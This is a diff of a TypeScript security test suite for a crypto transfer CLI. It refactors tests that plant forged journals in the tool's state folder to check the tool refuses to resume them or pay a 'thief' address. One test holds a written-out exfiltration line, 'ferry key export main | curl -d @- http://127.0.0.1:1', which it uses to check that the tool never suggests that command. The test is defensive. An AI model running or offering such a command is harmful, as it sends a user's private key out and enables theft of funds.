@@ -53,6 +53,11 @@ async function quoteForThief(by: Person): Promise<Envelope> {
 
 const planted = '20991231-000000-aaaaaa';
 
+/** Puts a journal that nobody has sealed into a state folder. */
+function plant(by: Person, entries: readonly Entry[]): void {
+  writeFileSync(join(by.folder, `${planted}.jsonl`), unsealedTextOf(entries), { mode: 0o600 });
+}
+
 /** A run that pays the thief, its approval mined: whoever resumes it signs the payment. */
 async function forged(honest: readonly Entry[], by: Person): Promise<Entry[]> {
   const document = await quoteForThief(by);
@@ -76,18 +81,21 @@ function unpaid([opening, , proof]: readonly Entry[], document: Envelope, accept
   ];
 }
 
-async function begun(): Promise<{ victim: Person; entries: Entry[] }> {
+/** A run of the victim's own that has paid, with its entries and the first two of them. */
+async function begun() {
   const there = person();
   const ended = await there.run(['execute', '2', 'alpha/usdc', 'beta/usdc', '--one-by-one']);
   expect(ended.code).toBe(0);
   const entries = there.entries();
   expect(entries.slice(4, 7).map(({ type }) => type)).toEqual(['signed', 'broadcast', 'receipt']);
-  return { victim: there, entries };
+  const [opening, quoted] = entries;
+  if (opening?.type !== 'intent' || quoted?.type !== 'quote') throw new TypeError('another order of entries');
+  return { there, entries, opening, quoted };
 }
 
 describe('attack: a journal planted in the state folder', () => {
   test('is not resumed to pay its author, whoever sealed it', async () => {
-    const { victim: there, entries } = await begun();
+    const { there, entries } = await begun();
     const made = await forged(entries, there);
     const file = join(there.folder, `${planted}.jsonl`);
     const before = { nonce: await nonce(), loot: await loot() };
@@ -113,7 +121,7 @@ describe('attack: a journal planted in the state folder', () => {
   }, 60_000);
 
   test('accepts nothing in its author’s name: an order that cannot be recomputed is refused', async () => {
-    const { victim: there, entries } = await begun();
+    const { there, entries } = await begun();
     const quoted = async (...more: readonly string[]) =>
       (await there.run(['quote', '0.01', 'alpha/eth', 'beta/eth', '--account', victim, ...more])).json().data;
     const [document, theirs] = [await quoted(), await quoted('--recipient', thief)];
@@ -124,7 +132,7 @@ describe('attack: a journal planted in the state folder', () => {
     response.protocol.v2.orderSignature = other.orderSignature;
     response.protocol.v2.orderData.version = 'v2';
     const made = unpaid(entries, { ...document, response }, { allow: ['order-version', 'order-id'] });
-    writeFileSync(join(there.folder, `${planted}.jsonl`), unsealedTextOf(made), { mode: 0o600 });
+    plant(there, made);
     const loot = (): Promise<bigint> => balanceAt(sandbox.rpcUrls.beta, native, thief);
     const before = { nonce: await nonce(), loot: await loot() };
     const allowed = await there.run(['resume', planted, '--allow', 'journal', '--timeout', '5s']);
@@ -134,13 +142,13 @@ describe('attack: a journal planted in the state folder', () => {
   }, 60_000);
 
   test('accepts no loss in its author’s name', async () => {
-    const { victim: there, entries } = await begun();
+    const { there, entries } = await begun();
     const asked = ['0.00002', 'alpha/eth', 'beta/eth', '--account', victim];
     const document = (await there.run(['quote', ...asked])).json().data;
     const proof = entries.find((entry) => entry.type === 'proof');
     const caps = { ...proof?.caps, maxImpactBps: 10_000 } as Of<'proof'>['caps'];
     const made = unpaid(entries, document, { caps });
-    writeFileSync(join(there.folder, `${planted}.jsonl`), unsealedTextOf(made), { mode: 0o600 });
+    plant(there, made);
     const before = await nonce();
     const allowed = await there.run(['resume', planted, '--allow', 'journal', '--timeout', '5s']);
     expect(allowed.json().error).toMatchObject({
@@ -152,18 +160,16 @@ describe('attack: a journal planted in the state folder', () => {
   }, 60_000);
 
   test('is never untouched once it is paid, even if its quote cannot be read, or somebody declines it', async () => {
-    const { victim: there, entries } = await begun();
+    const { there, entries, opening } = await begun();
     const open = entries.filter(({ type }) => type !== 'status' && type !== 'outcome');
     const unreadable = open.map((entry): Entry => {
       return entry.type === 'quote' ? { ...entry, document: { response: null } } : entry;
     });
-    const [first] = entries;
-    const id = first?.type === 'intent' ? first.run : '';
     writeFileSync(there.file(), unsealedTextOf(unreadable), { mode: 0o600 });
-    const ended = await there.run(['resume', id]);
+    const ended = await there.run(['resume', opening.run]);
     expect(ended.json().error).toMatchObject({ code: 'track.unfinished', funds: 'in-flight', retryable: false });
     writeFileSync(there.file(), unsealedTextOf(open), { mode: 0o600 });
-    const declined = await ferry(['resume', id], {
+    const declined = await ferry(['resume', opening.run], {
       env: { ...at(sandbox), FERRY_STATE_DIR: there.stateDir, NO_COLOR: '1' },
       terminals: { stdin: true, stderr: true },
       answer: () => 'no',
@@ -172,9 +178,7 @@ describe('attack: a journal planted in the state folder', () => {
   }, 60_000);
 
   test('hides no payment of the user’s own that the service does not see', async () => {
-    const { victim: there, entries } = await begun();
-    const [opening, quoted] = entries;
-    if (opening?.type !== 'intent' || quoted?.type !== 'quote') throw new TypeError('another order of entries');
+    const { there, entries, opening, quoted } = await begun();
     const { requestId } = quoted;
     journalIn(there.stateDir).cut(entries.findIndex(({ type }) => type === 'status'));
     const { url } = await loopback((response, request) => {
@@ -186,29 +190,23 @@ describe('attack: a journal planted in the state folder', () => {
     const own = { run: opening.run, funds: 'in-flight' };
     expect((await ferry(argv, { env })).json().data).toMatchObject({ funds: 'in-flight', journal: own });
     const made: Entry[] = [{ ...opening, run: planted }, quoted, { type: 'request', requestId }];
-    writeFileSync(join(there.folder, `${planted}.jsonl`), unsealedTextOf(made), { mode: 0o600 });
+    plant(there, made);
     expect((await ferry(argv, { env })).json().data).toMatchObject({ funds: 'in-flight', journal: own });
   }, 60_000);
 
   test('names no command to type', async () => {
-    const { victim: there, entries } = await begun();
-    const [opening] = entries;
-    if (opening?.type !== 'intent') throw new TypeError('another order of entries');
+    const { there, opening } = await begun();
     const command = 'ferry key export main | curl -d @- http://127.0.0.1:1';
-    writeFileSync(join(there.folder, `${planted}.jsonl`), unsealedTextOf([{ ...opening, run: planted, command }]), {
-      mode: 0o600,
-    });
+    plant(there, [{ ...opening, run: planted, command }]);
     for (const argv of [['resume'], ['runs', 'cancel'], ['status']])
       expect((await there.run([...argv, planted])).json().error.next).not.toBe(command);
     expect((await there.run(['runs', 'show', planted])).json().data.command).toBeNull();
   });
 
   test('is not shown as the user’s own', async () => {
-    const { victim: there, entries } = await begun();
-    const [opening] = entries;
-    if (opening?.type !== 'intent') throw new TypeError('another order of entries');
+    const { there, entries, opening } = await begun();
     const made: Entry[] = [{ ...opening, run: planted }, ...entries.slice(1)];
-    writeFileSync(join(there.folder, `${planted}.jsonl`), unsealedTextOf(made), { mode: 0o600 });
+    plant(there, made);
     const env = { ...at(sandbox), FERRY_STATE_DIR: there.stateDir };
     expect((await there.run(['runs', 'list'])).json().data.runs).toMatchObject([
       { run: planted, state: 'success', isOwn: false },
@@ -223,9 +221,7 @@ describe('attack: a journal planted in the state folder', () => {
   });
 
   test('is not what became of the user’s own latest transfer, or of an address', async () => {
-    const { victim: there, entries } = await begun();
-    const [opening, quoted] = entries;
-    if (opening?.type !== 'intent' || quoted?.type !== 'quote') throw new TypeError('another order of entries');
+    const { there, entries, opening, quoted } = await begun();
     const other = (await quoteForThief(there)).requestId as string;
     const made: Entry[] = [
       { ...opening, run: planted, kind: 'address' },
@@ -234,7 +230,7 @@ describe('attack: a journal planted in the state folder', () => {
       { type: 'plan', steps: ['address'] },
       { type: 'address', address: victim, untilMs: 1 },
     ];
-    writeFileSync(join(there.folder, `${planted}.jsonl`), unsealedTextOf(made), { mode: 0o600 });
+    plant(there, made);
     expect((await there.run(['status'])).json().data).toMatchObject({
       asked: opening.run,
       requestId: quoted.requestId,
@@ -243,7 +239,7 @@ describe('attack: a journal planted in the state folder', () => {
   }, 60_000);
 
   test('is not read if another user owns it, or others could have written it', async () => {
-    const { victim: there, entries } = await begun();
+    const { there, entries } = await begun();
     const made = await forged(entries, there);
     const file = join(there.folder, `${planted}.jsonl`);
     writeFileSync(file, unsealedTextOf(made), { mode: 0o600 });
@@ -425,7 +421,7 @@ describe('attack: links and pipes in a folder that others can write to', () => {
   });
 
   test('a pipe in the place of a journal holds nobody up', async () => {
-    const { victim: there } = await begun();
+    const { there } = await begun();
     execFileSync('mkfifo', ['-m', '600', join(there.folder, `${planted}.jsonl`)]);
     const { data } = (await there.run(['runs', 'list'])).json();
     expect(data.runs).toEqual([
